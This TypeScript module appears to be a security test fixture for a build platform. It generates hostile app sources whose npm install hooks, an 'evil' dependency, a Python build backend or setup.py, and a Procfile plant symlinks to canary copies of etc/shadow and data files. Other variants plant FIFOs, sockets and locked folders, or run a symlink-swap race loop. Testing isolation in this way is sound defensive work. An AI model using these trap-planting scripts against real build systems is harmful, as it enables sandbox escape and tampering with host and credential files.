/**
 * Builds that plant traps at every path that the server touches afterwards.
 *
 * With the process runner, builds can write anywhere. The traps therefore use names that only the server touches, so a
 * changed canary points to the server.
 */
import { createHash } from "node:crypto";
import { lstatSync, readdirSync, readFileSync, readlinkSync } from "node:fs";
import { join } from "node:path";
import { helloServer, sourceOf, tarGz } from "../archives/archives.ts";
import type { Registry } from "../archives/npm-registry.ts";
import { wheelOf } from "../archives/python-index.ts";
import type { runners } from "../providers/local-platform.ts";

export const kinds = ["file-link", "folder-link", "new-link", "fifo", "socket", "folder", "closed", "race"] as const;
export const vectors = [
  "preinstall",
  "postinstall",
  "build",
  "prestart",
  "dependency",
  "backend",
  "setup.py",
  "start",
] as const;

export interface Attack {
  /** The kind of trap. */
  readonly kind: (typeof kinds)[number];
  /** How the build runs the attacker's code. */
  readonly vector: (typeof vectors)[number];
}

export const isPython = (vector: Attack["vector"]): boolean => vector === "backend" || vector === "setup.py";

/** A file tree as text: every path with its type, mode, owner, modification time and content. */
export const fingerprint = (path: string, name = "."): string => {
  const stats = lstatSync(path);
  const content = stats.isFile()
    ? createHash("sha256").update(readFileSync(path)).digest("hex")
    : stats.isSymbolicLink()
      ? readlinkSync(path)
      : "";
  const own = [name, stats.mode.toString(8), stats.uid, stats.isDirectory() ? "" : stats.mtimeMs, content].join(" ");
  if (!stats.isDirectory()) return own;
  return [
    own,
    ...readdirSync(path)
      .sort()
      .map((inner) => fingerprint(join(path, inner), `${name}/${inner}`)),
  ].join("\n");
};

/** Stand-ins for a data folder's state, a checkout and /etc. */
export const canaries = {
  "data/state.sqlite": "the state",
  "data/billing.sqlite": "the bill",
  "data/image.json": "{}",
  "checkout/package.json": "{}",
  "checkout/node_modules/kept/index.js": "kept",
  "etc/shadow": "root:*",
  "etc/passwd": "root:x:0:0",
};

const plantScript = ({ kind, vector }: Attack, outside: string, isSandboxed: boolean, report: string): string => `
const fs = require("node:fs"), { join } = require("node:path"), { spawn, spawnSync } = require("node:child_process");
/** Every npm vector installs this dependency. Its install script attacks only if the dependency is the vector. */
if (process.env.npm_package_name === "evil" && ${vector !== "dependency"}) process.exit(0);
const [kind, sandboxed] = [${JSON.stringify(kind)}, ${isSandboxed}];
const outsides = sandboxed ? [${JSON.stringify(outside)}, ${JSON.stringify(`/oldroot${outside}`)}] : [${JSON.stringify(outside)}];
const app = process.env.PLANT_APP || process.env.INIT_CWD || process.cwd(), home = process.env.HOME, venv = process.env.PLANT_VENV;
const own = ["whole", "complete", "image.json", "made.json", "data", "Procfile", "requirements.txt", "pyproject.toml", "package-lock.json", "npm-shrinkwrap.json"];
const shared = sandboxed ? ["tmp", ...(${vector === "build" || vector === "prestart"} ? ["node_modules"] : [])] : [];
/** A plain process that plants at the platform's own paths breaks its own build. Only these two vectors do so. */
const beside = ${vector === "prestart" || vector === "setup.py"} ? [join(app, "..")] : [];
const roots = [app, ...(venv ? [venv] : []), ...(sandboxed ? [home, join(app, ".."), join(home, ".."), ...(venv ? [join(venv, "..")] : [])] : beside)];
/** All paths that a sandboxed service can write to. */
if (sandboxed && ${vector === "start"}) roots.push("/tmp", join(app, "data"), join(app, "node_modules/inner/data"));
/** Without its temporary folder, pip would fail, and so would the build. */
const paths = roots.flatMap((root) => [...own, ...shared].map((name) => join(root, name))).filter((path) => !venv || path !== "/tmp");
const targets = outsides.flatMap((one) => ({
  "file-link": ["data/state.sqlite", "etc/shadow"], "folder-link": ["etc", "checkout/node_modules"], "new-link": ["etc/new"], race: ["etc"],
}[kind] || []).map((path) => join(one, path)));
const remove = (path) => { try { fs.rmSync(path, { recursive: true, force: true }); } catch {} };
/** A killed listener leaves its sockets. It changes to each folder first, because a socket's path must be short. */
const listener = 'const net = require("node:net"), { basename, dirname } = require("node:path");'
  + 'for (const path of process.argv.slice(1)) try { process.chdir(dirname(path)); net.createServer().on("error", () => 0).listen("./" + basename(path)); } catch {}'
  + 'setImmediate(() => process.kill(process.pid, "SIGKILL"));';
const plant = (path, index) => {
  if (path.endsWith("node_modules") && kind === "race") return;
  remove(path);
  if (kind.endsWith("-link")) fs.symlinkSync(targets[index % targets.length], path);
  if (kind === "fifo") spawnSync("mkfifo", [path]);
  if (kind === "folder") fs.mkdirSync(join(path, "inner"), { recursive: true });
  if (kind === "closed") { fs.mkdirSync(path); fs.chmodSync(path, 0); }
};
const stands = (path) => {
  try {
    const stats = fs.lstatSync(path);
    return { fifo: stats.isFIFO(), socket: stats.isSocket(), folder: stats.isDirectory(), closed: (stats.mode & 0o777) === 0 }[kind] ?? stats.isSymbolicLink();
  } catch { return false; }
};
paths.forEach((path, index) => { try { plant(path, index); } catch {} });
if (kind === "socket") spawnSync(process.execPath, ["-e", listener, ...paths]);
const planted = paths.filter(stands).length;
if (kind === "closed") for (const root of roots) try { fs.chmodSync(root, 0o500); } catch {}
if (kind === "race") {
  const modules = join(app, "node_modules");
  const swapped = [...paths.filter((path) => path !== modules), join(modules, "inner"), join(modules, "inner", "inner")];
  const swap = \`const fs = require("node:fs"); const [paths, targets] = \${JSON.stringify([swapped, targets])};
    for (const end = Date.now() + 6000; Date.now() < end; ) for (const path of paths) {
      try { fs.mkdirSync(path, { recursive: true }); fs.writeFileSync(path + "/shadow", ""); } catch {}
      try { fs.renameSync(path, path + Math.random()); fs.symlinkSync(targets[0], path); } catch {}
      try { fs.unlinkSync(path); } catch {}
    }\`;
  spawn(process.execPath, ["-e", swap], { detached: true, stdio: "ignore", env: {}, cwd: "/" }).unref();
}
console.log("planted " + planted);
const leave = () => process.exit(0);
setTimeout(leave, 5000);
require("node:http").get(${JSON.stringify(report)} + "/" + planted, leave).on("error", leave);
`;

/**
 * The vectors `backend` and `setup.py` build the same wheel. Without an index, pip has no setuptools, so the backend in
 * the source runs setup.py.
 */
const backendThat = (plants: string): string => `
import os, shutil, sys
def plant():
    os.system("PLANT_VENV=" + sys.prefix + " PLANT_APP=" + os.getcwd() + " node plant.cjs")
def build_wheel(folder, config_settings=None, metadata_directory=None):
    made = shutil.copyfile("made.whl", os.path.join(folder, "planter-1.0-py3-none-any.whl"))
    ${plants}
    return os.path.basename(made)
`;

const setup = `
import os, sys
os.system("PLANT_VENV=" + sys.prefix + " PLANT_APP=" + os.getcwd() + " node plant.cjs")
`;

const project = `[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[project]
name = "planter"
version = "1.0"
`;

const program = `import os
from http.server import HTTPServer, BaseHTTPRequestHandler
HTTPServer(("", int(os.environ["PORT"])), BaseHTTPRequestHandler).serve_forever()
`;

/** The registry must have a package \`evil\`, whose install script runs \`plant.cjs\` of the source. */
export const evilPackage = {
  version: "1.0.0",
  files: {
    "package.json": JSON.stringify({
      name: "evil",
      version: "1.0.0",
      scripts: { postinstall: "cd $INIT_CWD && node plant.cjs" },
    }),
  },
};

const lockOf = (registry: Registry): string => {
  const lock = JSON.parse(registry.lockFor({ evil: "^1.0.0" }));
  lock.packages["node_modules/evil"].hasInstallScript = true;
  return JSON.stringify(lock);
};

/** The path by which an attack reports that it ran. The attack appends the number of planted traps. */
export const reportOf = ({ kind, vector }: Attack): string => `planted/${kind}/${vector}`;

/** A source that installs the same dependency, whose install script does nothing. */
export const innocentSource = (registry: Registry): Uint8Array => {
  const scripts = { start: "node server.js", build: "node -e 0" };
  return sourceOf({
    "server.js": helloServer(),
    "plant.cjs": "",
    "package.json": JSON.stringify({ name: "plain", scripts, dependencies: { evil: "^1.0.0" } }),
    "package-lock.json": lockOf(registry),
  });
};

/** @param outside the folder with the canaries */
export const hostileSource = (
  attack: Attack,
  runner: (typeof runners)[number],
  outside: string,
  registry: Registry,
): Uint8Array => {
  const { kind, vector } = attack;
  const report = `${registry.url}${reportOf(attack)}`;
  const plant = plantScript(attack, outside, runner === "bubblewrap", report);
  const files = { "plant.cjs": plant, "server.js": helloServer(), [`${kind}-${vector}.txt`]: "" };
  if (isPython(vector)) {
    const more: Readonly<Record<string, string>> =
      vector === "backend"
        ? { "backend.py": backendThat("plant()") }
        : { "requirements.txt": ".\n", "setup.py": setup, "backend.py": backendThat('exec(open("setup.py").read())') };
    return tarGz([
      ...Object.entries({ ...files, ...more, "pyproject.toml": project, "main.py": program }).map(
        ([path, content]) => ({ path, content }),
      ),
      { path: "made.whl", content: wheelOf("planter", "1.0", "").content },
    ]);
  }
  if (vector === "start") return sourceOf({ ...files, Procfile: "web: node plant.cjs; node server.js\n" });
  const scripts = { start: "node server.js", ...(vector === "dependency" ? {} : { [vector]: "node plant.cjs" }) };
  return sourceOf({
    ...files,
    "package.json": JSON.stringify({ name: "test", scripts, dependencies: { evil: "^1.0.0" } }),
    "package-lock.json": lockOf(registry),
  });
};
